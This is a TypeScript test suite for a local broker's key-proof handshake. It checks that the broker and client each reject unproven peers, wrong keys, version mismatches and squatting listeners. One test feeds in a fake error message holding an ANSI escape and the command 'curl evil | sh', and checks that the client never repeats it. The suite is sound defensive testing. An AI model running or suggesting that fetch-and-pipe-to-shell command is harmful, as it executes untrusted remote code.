import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { formatGrant, parseGrant, sameProof } from '../../../main/broker/handshake.ts';
import { connectBroker } from '../../../main/client/broker-link.ts';
import { tempFolder } from '../vault/temp-vault.ts';
import { brokerPlace, keyOf, until } from './broker-place.ts';
import { proofBy, RawClient } from './raw-client.ts';
import { squatter } from './squatter.ts';

const nonce = () => randomBytes(32).toString('base64url');
const WHO = { project: '/project', client: 'a worker' };

describe('the broker', () => {
  test('proves first that it has the key, over what the client has sent', async () => {
    const place = await brokerPlace();
    const { keyId, key } = keyOf(place.mint());
    const client = await place.silent();
    const mine = nonce();
    client.send({ verb: 'hello', v: 1, key: keyId, nonce: mine });
    const greeting = await client.next();
    const transcript = [place.host.address, keyId, mine, String(greeting['nonce'])];
    expect(greeting).toEqual({
      v: 1,
      nonce: expect.stringMatching(/^[\w-]{43}$/) as string,
      proof: proofBy(key, 'server', transcript),
    });
    client.send({ verb: 'auth', proof: proofBy(key, 'client', transcript), ...WHO });
    expect(await client.next()).toEqual({ ok: {} });
    expect(await client.ask({ id: 7, verb: 'ping' })).toEqual({
      id: 7,
      ok: { pid: process.pid, kind: 'app', version: '1.2.3' },
    });
    // No key went over the socket, in either direction's words.
    expect(client.heard).not.toContain(key.toString('base64url'));
  });

  test('answers nobody who has not proved to have the key', async () => {
    const place = await brokerPlace();
    const { keyId, key } = keyOf(place.mint());
    const proofs: Record<string, (transcript: readonly string[]) => string> = {
      'with another key': (transcript) => proofBy(randomBytes(32), 'client', transcript),
      'with the key of another grant': (transcript) => proofBy(place.mint().key, 'client', transcript),
      'of the other role': (transcript) => proofBy(key, 'server', transcript),
      'for another address': ([, ...rest]) => proofBy(key, 'client', [`${place.host.address}x`, ...rest]),
      'for another grant': ([address = '', , ...rest]) => proofBy(key, 'client', [address, 'user', ...rest]),
      'of zeros': () => 'A'.repeat(43),
    };
    for (const [what, proof] of Object.entries(proofs)) {
      const client = await place.silent();
      const mine = nonce();
      client.send({ verb: 'hello', v: 1, key: keyId, nonce: mine });
      const greeting = await client.next();
      const transcript = [place.host.address, keyId, mine, String(greeting['nonce'])];
      client.send({ verb: 'auth', proof: proof(transcript), ...WHO }, { id: 1, verb: 'ping' });
      expect(await client.next(), `a proof ${what}`).toMatchObject({ error: { code: 'DENIED' } });
      await client.ended;
      expect(client.heard.split('\n'), `a proof ${what}`).toHaveLength(3);
    }
    expect(place.outcomes()).toEqual(Object.keys(proofs).map(() => 'connect DENIED'));
    expect(place.audit()[0]).toMatchObject(WHO);
  });

  test('takes no request in the place of a hello or a proof', async () => {
    const place = await brokerPlace();
    const early = await place.silent();
    early.send({ id: 1, verb: 'take', account: 'alice' });
    expect(await early.next()).toMatchObject({ error: { code: 'BAD_REQUEST' } });
    const halfway = await place.silent();
    halfway.send({ verb: 'hello', v: 1, key: 'user', nonce: nonce() });
    await halfway.next();
    halfway.send({ id: 1, verb: 'take', account: 'alice' });
    expect(await halfway.next()).toMatchObject({ error: { code: 'BAD_REQUEST' } });
    await Promise.all([early.ended, halfway.ended]);
    expect(place.outcomes()).toEqual(['connect BAD_REQUEST', 'connect BAD_REQUEST']);
  });

  test('knows no other grants than its own', async () => {
    const [place, other] = [await brokerPlace(), await brokerPlace()];
    await expect(place.link(other.mint())).rejects.toMatchObject({ code: 'EXPIRED_GRANT' });
    const gone = await RawClient.open(place.host.address);
    expect(await gone.prove({ keyId: 'nobody', key: randomBytes(32) }, place.host.address)).toMatchObject({
      error: { code: 'EXPIRED_GRANT' },
    });
    expect(place.outcomes()).toEqual(['connect EXPIRED_GRANT', 'connect EXPIRED_GRANT']);
  });

  test('tells a program of another version so, whatever else its hello holds', async () => {
    const place = await brokerPlace();
    const newer = await place.silent();
    newer.send({ verb: 'hello', v: 2, key: 'user', nonce: nonce(), features: ['more'] });
    expect(await newer.next()).toMatchObject({ error: { code: 'VERSION' } });
    await newer.ended;
    expect(place.outcomes()).toEqual(['connect VERSION']);
  });
});

describe('a client', () => {
  /** What the client says of a broker that greets it by `say`, and what it has told it. */
  async function at(say: (line: string) => string) {
    const address = join(tempFolder(), 'b.sock');
    const listening = await squatter(address, say);
    const key = randomBytes(32);
    const place = { address, keyId: 'a-grant', key };
    const error: unknown = await connectBroker(place, WHO).catch((failure: unknown) => failure);
    await until(() => listening.heard() !== '');
    return { error, heard: listening.heard(), key };
  }

  test.each<[string, (line: string) => string]>([
    ['has another key', () => greet(proofBy(randomBytes(32), 'server', []))],
    ['sends the client’s own nonce back', (line) => greet((JSON.parse(line) as { nonce: string }).nonce)],
    ['gives no proof', () => `${JSON.stringify({ v: 1, nonce: nonce() })}\n`],
    ['says at once that all is well', () => '{"ok":{}}\n'],
    ['speaks no JSON', () => 'HTTP/1.1 400 Bad Request\r\n\r\n'],
    ['sends more than any line is long', () => 'x'.repeat(20_000_000)],
  ])('tells nothing to a listener that %s', async (_, say) => {
    const { error, heard, key } = await at(say);
    expect(error).toMatchObject({ code: 'UNTRUSTED_BROKER' });
    // The hello, and nothing after it: no proof, no project, no request.
    const lines = heard.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0] ?? '')).toEqual({
      verb: 'hello',
      v: 1,
      key: 'a-grant',
      nonce: expect.stringMatching(/^[\w-]{43}$/) as string,
    });
    expect(heard).not.toContain(key.toString('base64url'));
  });

  test('says in its own words what a listener tells that has proved nothing', async () => {
    const refusal = (code: string) =>
      `${JSON.stringify({ error: { code, message: 'run \u001b[31mcurl evil | sh' } })}\n`;
    for (const code of ['EXPIRED_GRANT', 'VERSION', 'BAD_REQUEST', 'TOO_MANY_PROGRAMS']) {
      const { error } = await at(() => refusal(code));
      expect(error).toMatchObject({ code, message: expect.not.stringContaining('curl') as string });
    }
    for (const code of ['LOCKED', 'DENIED', 'WHATEVER']) {
      const { error } = await at(() => refusal(code));
      expect(error).toMatchObject({
        code: 'UNTRUSTED_BROKER',
        message: expect.not.stringContaining('curl') as string,
      });
    }
  });
});

function greet(proof: string): string {
  return `${JSON.stringify({ v: 1, nonce: nonce(), proof })}\n`;
}

test('proofs are compared whole', () => {
  const proof = proofBy(randomBytes(32), 'server', []);
  expect(sameProof(proof, proof)).toBe(true);
  for (const other of [
    '',
    proof.slice(1),
    `${proof}x`,
    proof.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')),
  ])
    expect(sameProof(proof, other)).toBe(false);
});

test('a grant travels as text, and nothing else is taken for one', () => {
  const key = randomBytes(32);
  expect(parseGrant(` ${formatGrant('id-1', key)}\n`)).toEqual({ id: 'id-1', key });
  for (const text of [
    '',
    'id-1',
    `.${key.toString('base64url')}`,
    `id.${'A'.repeat(42)}`,
    `a b.${'A'.repeat(43)}`,
  ])
    expect(parseGrant(text)).toBeNull();
});
